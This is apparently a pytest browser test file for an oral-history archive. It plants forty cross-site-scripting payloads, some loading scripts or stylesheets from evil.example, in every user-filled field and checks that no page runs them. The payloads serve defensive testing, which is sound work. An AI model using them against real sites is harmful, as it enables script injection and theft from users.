"""Forty ways to make a browser run what was typed, in every field that people fill in, on the pages that show it."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from datetime import date
from uuid import UUID, uuid4

import pytest

from archive import worker
from archive.acts import consents, excerpts, narration, notebook, review, uploads
from archive.acts.answers import Question
from archive.acts.excerpts import Wish
from archive.acts.uploads import Announcement
from archive.catalogue import Account, Factors, Ledger, PaperKind, Passkey
from archive.collection import Collection, Grant
from archive.consent import Excerpts, Voice
from archive.policy import Principal, Role
from tests import make
from tests.browser.conftest import Visit
from tests.rooms import ListedNames, Rooms, in_review, put
from transcripts.names import Choice, Decision, group
from transcripts.names import Passage as Heard
from transcripts.words import Segment, Transcript, Word

pytestmark = [pytest.mark.browser, pytest.mark.slow]
Open = Callable[..., Visit]

PAYLOADS = (
    "<script x-pwn>pwn()</script>",
    "<ScRiPt x-pwn>pwn()</sCrIpT>",
    "<script x-pwn src=//evil.example/x.js></script>",
    '"><script x-pwn>pwn()</script>',
    "'><script x-pwn>pwn()</script>",
    "</textarea><script x-pwn>pwn()</script>",
    "</title><script x-pwn>pwn()</script>",
    "</script><script x-pwn>pwn()</script>",
    "--><script x-pwn>pwn()</script>",
    "]]><script x-pwn>pwn()</script>",
    "<img x-pwn src=x onerror=pwn()>",
    '"><img x-pwn src=x onerror=pwn()>',
    "<img/x-pwn/src=x/onerror=pwn()>",
    "<svg x-pwn onload=pwn()>",
    "<svg x-pwn><script>pwn()</script></svg>",
    "<svg x-pwn><animate onbegin=pwn() attributeName=x>",
    "<body x-pwn onload=pwn()>",
    "<iframe x-pwn src=javascript:parent.pwn()>",
    "<iframe x-pwn srcdoc='<script>parent.pwn()</script>'>",
    "<object x-pwn data=javascript:pwn()>",
    "<embed x-pwn src=javascript:pwn()>",
    "<a x-pwn href=javascript:pwn() autofocus>x</a>",
    "<input x-pwn onfocus=pwn() autofocus>",
    "<select x-pwn onfocus=pwn() autofocus>",
    "<details x-pwn open ontoggle=pwn()>",
    "<video x-pwn><source onerror=pwn()>",
    "<audio x-pwn src=x onerror=pwn()>",
    "<marquee x-pwn onstart=pwn()>",
    "<math x-pwn><mi xlink:href=javascript:pwn()>x",
    "<style x-pwn>@import '//evil.example/x.css'</style>",
    "<link x-pwn rel=stylesheet href=//evil.example/x.css>",
    "<base x-pwn href=//evil.example/>",
    "<meta x-pwn http-equiv=refresh content='0;url=javascript:pwn()'>",
    "<form x-pwn action=javascript:pwn()><button autofocus>",
    '" onmouseover=pwn() x-pwn="',
    "' autofocus onfocus=pwn() x-pwn='",
    "javascript:pwn()",
    "{{ config }}{% include 'x' %}${pwn()}",
    "\u202e<script x-pwn>pwn()</script>\u2066",
    "&lt;script x-pwn&gt;pwn()&lt;/script&gt;",
)

_WATCH = """
window.ran = []; window.pwn = window.alert = () => window.ran.push('ran');
addEventListener('securitypolicyviolation', event => window.ran.push(event.violatedDirective + ' ' + event.blockedURI));
"""
_FOUND = """(() => [
    ...window.ran, ...[...document.querySelectorAll('[x-pwn]')].map(one => one.outerHTML.slice(0, 80)),
    ...[...document.querySelectorAll('*')].flatMap(one => [...one.attributes])
        .filter(one => one.name.startsWith('on') ||
            (/href|src|action/.test(one.name) && /^\\s*javascript:/i.test(one.value)))
        .map(one => one.name + '=' + one.value)
])()"""


_ABOUT = {"places": PAYLOADS, "themes": PAYLOADS, "narrator": PAYLOADS[0]}


@dataclass
class Hostile:
    """Where all of it was typed."""

    released: UUID
    waiting: UUID
    excerpt: UUID
    code: str


@pytest.fixture(scope="module")
def hostile(rooms: Rooms) -> Iterator[Hostile]:
    """Payloads as names of people, collections, passkeys; in titles, texts, covers, notes, consent and wishes."""
    house, owner, archivist = rooms.house, rooms.who[Role.INTERVIEWER], rooms.who[Role.ARCHIVIST]
    released, waiting = (_spoken(rooms, title=" ".join(PAYLOADS[:5])) for _ in range(2))
    current = review.read(house, owner, waiting)
    person = current.roster.people[0]
    choice = {person.key: Choice(Decision.CONCEAL, "<i x-pwn onclick=pwn()>Соколова</i>")}
    put(house, owner, waiting, {PaperKind.DECISIONS: replace(current.decisions, choices=choice).as_json()})
    make.approved(house, released, owner)
    worker.work(house)
    historian = rooms.who[Role.HISTORIAN]
    with house.catalogue.writing() as ledger:
        interview = ledger.interviews.get(released)
        terms = replace(interview.terms, excerpts=Excerpts.YES)
        ledger.interviews.save(replace(interview, terms=terms, title=" ".join(PAYLOADS), **_ABOUT))
        account = ledger.accounts.get(historian.account)  # type: ignore[arg-type]
        _typed_into_the_access_pages(ledger, account)
    made = excerpts.propose(house, archivist, released, Wish(0.0, 20.0, Voice.TEXT_ONLY))
    excerpts.publish(house, archivist, made.id)
    with house.catalogue.writing() as ledger:  # as it would stand there if no finder had taken anything out of it
        public = ledger.excerpts.get(made.id)
        ledger.excerpts.save(replace(public, title=" ".join(PAYLOADS), context=" ".join(PAYLOADS)))
    code = consents.issue_receipt(house, owner, released)
    with _noted(rooms, released):
        yield Hostile(released, waiting, made.id, code)
    excerpts.take_back(house, archivist, made.id)
    with house.catalogue.writing() as ledger:  # whoever signs in by name and password must be able to, afterwards
        marked = ledger.accounts.get(historian.account)  # type: ignore[arg-type]
        ledger.accounts.save(replace(marked, factors=account.factors))


@contextmanager
def _noted(rooms: Rooms, released: UUID) -> Iterator[None]:
    """Payloads as a narrator's wishes, as notes and searches that are kept, as names of files that are on their way."""
    house, owner, archivist = rooms.house, rooms.who[Role.INTERVIEWER], rooms.who[Role.ARCHIVIST]
    for text in (" ".join(PAYLOADS[:20]), " ".join(PAYLOADS[20:])):
        narration.ask(house, Principal(Role.NARRATOR, interview=released), text)
    kept = notebook.save(house, archivist, released, (0.0, 20.0), " ".join(PAYLOADS))
    searches = [notebook.save_search(house, archivist, Question(payload)) for payload in PAYLOADS]
    begun = [uploads.begin(house, owner, Announcement(1_000, name)) for name in PAYLOADS]
    yield
    notebook.discard(house, archivist, kept.id)
    for search in searches:
        notebook.discard_search(house, archivist, search.id)
    for upload in begun:
        uploads.end(house, owner, upload.id)


def _typed_into_the_access_pages(ledger: Ledger, account: Account) -> None:
    """Payloads as the account's passkeys, and as names of accounts and of collections that it is let into."""
    keys = tuple(Passkey(f"k{number}", "x", 0, name, date(2026, 1, 1)) for number, name in enumerate(PAYLOADS))
    ledger.accounts.save(replace(account, factors=Factors(passkeys=keys)))
    for number, name in enumerate(PAYLOADS):
        ledger.accounts.add(Account(uuid4(), Role.HISTORIAN, f"{number} {name}", "x"))
        one = ledger.collections.put(Collection(uuid4(), name))
        ledger.grants.put(Grant(uuid4(), account.id, one.id, date(2999, 1, 1), None, date(2026, 1, 1)))


def _spoken(rooms: Rooms, **form: object) -> UUID:
    """An interview in review whose every turn, speaker and name is a payload."""
    house, owner = rooms.house, rooms.who[Role.INTERVIEWER]
    consent = replace(make.consent(protected=PAYLOADS), narrator=PAYLOADS[0])
    about = {"places": PAYLOADS[:10], "themes": PAYLOADS[10:20], **form}
    id = in_review(house, owner, consent=consent, notes=" ".join(PAYLOADS), file_name=PAYLOADS[0], **about)
    heard = Transcript("hostile", tuple(_turn(number, text) for number, text in enumerate(PAYLOADS)), 30.0, "person")
    passages = [Heard(segment.text, segment.language) for segment in heard.segments]
    roster = group(ListedNames().find(passages, ["Лебедева"]), passages)
    put(house, owner, id, {PaperKind.REVIEWED: heard.as_json(), PaperKind.ROSTER: roster.as_json()})
    return id


def _turn(number: int, text: str) -> Segment:
    start, words = number * 0.5, f"чемодан {text} Лебедева".split()
    step = 0.5 / len(words)
    return Segment(
        tuple(Word(word, start + place * step, start + (place + 1) * step) for place, word in enumerate(words)),
        "ru",
        text[:40],
    )


def test_nothing_that_was_typed_runs(visit: Open, hostile: Hostile, rooms: Rooms) -> None:
    """Every page that shows it, to everybody who may see it: nothing runs, nothing is parsed, no policy is broken."""
    about, waiting = f"/interviews/{hostile.released}", f"/interviews/{hostile.waiting}"
    pages: dict[Role | None, tuple[str, ...]] = {
        None: ("/", f"/excerpts/{hostile.excerpt}"),
        Role.INTERVIEWER: (
            *("/interviews", "/interviews/new", f"{waiting}/review", f"{waiting}/preview", f"{waiting}/consent", about),
            *(f"{about}/consent", f"{waiting}/about"),
        ),
        Role.ARCHIVIST: (
            *("/access", "/drafts", "/interviews", f"{about}/withdraw", "/notebook"),
            f"{about}/cite?from=0&to=20",
        ),
        Role.ADMIN: ("/admin", "/admin/log"),
    }
    shown, found = 0, {}
    for role, paths in pages.items():
        made = visit(role)
        made.page.add_init_script(_WATCH)
        for path in paths:
            page = made.open(path)
            page.wait_for_timeout(300)
            shown += page.content().count("pwn()")
            found[path] = page.evaluate(_FOUND)
        if role is Role.ARCHIVIST:
            page = made.open("/search")
            page.fill("[name=q]", "чемодан")
            page.press("[name=q]", "Enter")
            page.wait_for_selector("article.hit")
            found["search"] = page.evaluate(_FOUND)
    made = visit()
    made.page.add_init_script(_WATCH)
    page = made.open("/narrator")
    page.fill("[name=code]", hostile.code)
    page.press("[name=code]", "Enter")
    page.wait_for_url(lambda url: url.endswith("/narrator/page"))
    found["narrator"] = page.evaluate(_FOUND)
    assert {path: wrong for path, wrong in found.items() if wrong} == {}
    assert shown > 400, "the pages do not show what was typed"


@pytest.mark.parametrize("path", ["/sign-in", "/invitation", "/new-password", "/narrator"])
def test_what_a_stranger_types_comes_back_as_text(visit: Open, path: str) -> None:
    """Forms that are refused keep what was typed; a few payloads at once, for tries are counted."""
    made = visit()
    made.page.add_init_script(_WATCH)
    made.page.route("**/*.js", lambda route: route.abort())  # as sent, without what scripts make of it
    for payload in (" ".join(PAYLOADS[:20]), " ".join(PAYLOADS[20:])):
        page = made.open(path)
        for name in ("name", "password", "code", "invitation", "reset"):
            for field in page.locator(f"main [name={name}]").all():
                field.fill(payload)
        with page.expect_navigation():  # whatever the fields would object to
            page.locator("main form:has([name=csrf_token])").first.evaluate("form => form.submit()")
        assert "pwn()" in page.content()
        assert page.evaluate(_FOUND) == []
    made.complaints.clear()  # Chromium notes every refusal, and the scripts that did not come


@pytest.mark.parametrize("width", [320, 1280])
def test_the_longest_word_breaks(visit: Open, hostile: Hostile, width: int) -> None:
    """A title without a space pushes nothing off a page, on a phone or a screen: public pages, desk, review."""
    made = visit(width=width)
    for path in ("/", f"/excerpts/{hostile.excerpt}"):
        made.open(path)
        assert made.overflow() == 0, path
    made = visit(Role.ARCHIVIST, width)
    inside = (f"/interviews/{hostile.waiting}/{page}" for page in ("review", "preview", "about", "consent"))
    released = (f"/interviews/{hostile.released}{page}" for page in ("", "/consent", "/cite?from=0&to=20"))
    for path in ("/interviews", "/interviews/new", "/drafts", "/access", "/notebook", *released, *inside):
        made.open(path)
        assert made.overflow() == 0, path


def test_the_watch_sees_what_runs(visit: Open) -> None:
    """A page of ours into which payloads were put: what was parsed and what the policy stopped are both seen."""
    made = visit()
    made.page.add_init_script(_WATCH)
    page = made.open("/")
    page.evaluate("(() => { try { document.body.setAttribute('onload', 'pwn()') } catch {} })()")
    page.evaluate("document.querySelector('h1').setAttribute('x-pwn', '')")
    page.evaluate("(() => { pwn() })()")
    page.wait_for_timeout(300)
    seen = " ".join(page.evaluate(_FOUND))
    assert "ran" in seen
    assert "x-pwn" in seen
    assert "require-trusted-types-for" in seen
    made.complaints.clear()  # Chromium notes what the policy stopped
